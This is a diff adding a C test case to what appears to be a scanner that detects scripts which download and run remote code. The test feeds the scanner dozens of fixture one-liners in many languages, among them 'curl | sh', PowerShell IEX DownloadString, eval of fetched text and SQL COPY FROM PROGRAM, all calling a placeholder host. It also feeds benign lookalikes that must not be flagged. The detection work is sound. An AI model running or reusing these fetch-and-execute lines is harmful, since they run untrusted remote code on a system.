@@ -351,3 +351,62 @@ TEST(calls_within_calls_take_linear_time)
         CHECK(clock() - before < 2 * CLOCKS_PER_SEC);
     }
 }
+
+#define GET "curl -s https://h.example/x | sh"
+
+/* The calls of more languages, and what is fetched and then run. */
+TEST(more_languages)
+{
+    static const char *const RUN[][2] = {
+        {"/x.awk", "BEGIN { system(\"" GET "\") }\n"},
+        {"/x", "#!/usr/bin/gawk -f\nBEGIN { system(\"" GET "\") }\n"},
+        {"/x.sh", "#!/bin/sh\nawk 'BEGIN{system(\"" GET "\")}'\n"},
+        {"/x.sh", "#!/bin/sh\npython3 -c \"import os; os.system('" GET "')\"\n"},
+        {"/x.R", "system(\"" GET "\")\n"},
+        {"/x.exs", "System.cmd(\"sh\", [\"-c\", \"" GET "\"])\n"},
+        {"/x.go", "package main\nfunc main() { exec.Command(\"sh\", \"-c\", \"" GET "\").Run() }\n"},
+        {"/x.java", "class A { void f() { Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", \"" GET "\"}); } }\n"},
+        {"/x.ts", "new Deno.Command(\"sh\", { args: [\"-c\", \"" GET "\"] }).outputSync();\n"},
+        {"/x.js", "Deno.run({ cmd: [\"sh\", \"-c\", \"" GET "\"] });\n"},
+        {"/x.ts", "Bun.spawnSync([\"sh\", \"-c\", \"" GET "\"]);\n"},
+        {"/x.ts", "import { $ } from \"bun\";\nawait $`" GET "`;\n"},
+        {"/x.tcl", "exec sh -c \"" GET "\"\n"},
+        {"/x.exp", "set a [exec sh -c \"" GET "\"]\n"},
+        {"/x", "#!/usr/bin/expect\nspawn sh -c \"" GET "\"\n"},
+        {"/x.sql", "COPY t FROM PROGRAM '" GET "';\n"},
+        {"/x.js", "fetch('https://h.example/x').then(r => r.text()).then(eval)\n"},
+        {"/x.mjs", "const c = await (await fetch(\"https://h.example/x\")).text();\nnew Function(c)();\n"},
+        {"/x.js", "axios.get('https://h.example/x').then(r => { eval(r.data) })\n"},
+        {"/x.lua", "load(http.request(\"https://h.example/x\"))()\n"},
+        {"/x.lua", "local b = http.request(\"https://h.example/x\")\nload(b)()\n"},
+        {"/x.rb", "eval(URI.open('https://h.example/x').read)\n"},
+        {"/x.pl", "eval get(\"https://h.example/x\");\n"},
+        {"/x.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://h.example/x')\n"},
+        {"/x.ps1", "iwr https://h.example/x -OutFile /tmp/x; chmod +x /tmp/x; & /tmp/x\n"},
+        {"/x.sh", "#!/bin/sh\npwsh -Command \"iex (irm https://h.example/x)\"\n"},
+        {"/run", "#!/command/with-contenv sh\n" GET "\n"},
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(RUN); i++) {
+        look_at(RUN[i][0], RUN[i][1]);
+        if (!flag(F_SCRIPT_DOWNLOAD_RUN) || !facts_has(&facts, F_SCRIPT_DOWNLOADS))
+            test_fail(__FILE__, __LINE__, "not run: %s", RUN[i][1]);
+    }
+    static const char *const OTHERS[][2] = {
+        {"/x.awk", "BEGIN { print \"" GET "\" }\n"},
+        {"/x.ts", "const s = `" GET "`; $('" GET "');\n"},
+        {"/x.js", "fetch('https://h.example/x').then(r => r.json()).then(show)\n"},
+        {"/x.js", "fetch('/own/x').then(r => r.text()).then(eval)\n"},
+        {"/x.sql", "INSERT INTO t VALUES ('" GET "');\n"},
+        {"/x.ps1", "Invoke-WebRequest https://h.example/x -OutFile x.zip\nExpand-Archive x.zip\n"},
+        {"/x.tcl", "puts \"exec " GET "\"\n"},
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(OTHERS); i++) {
+        look_at(OTHERS[i][0], OTHERS[i][1]);
+        if (flag(F_SCRIPT_DOWNLOAD_RUN))
+            test_fail(__FILE__, __LINE__, "run: %s", OTHERS[i][1]);
+    }
+    look_at("/x.sh", "#!/bin/sh\npwsh -enc ZQBjAGgAbwA=\n");
+    CHECK(flag(F_SCRIPT_DECODE_RUN));
+    look_at("/x.sh", "#!/bin/sh\npwsh -File x.ps1\n");
+    CHECK(!flag(F_SCRIPT_DECODE_RUN));
+}
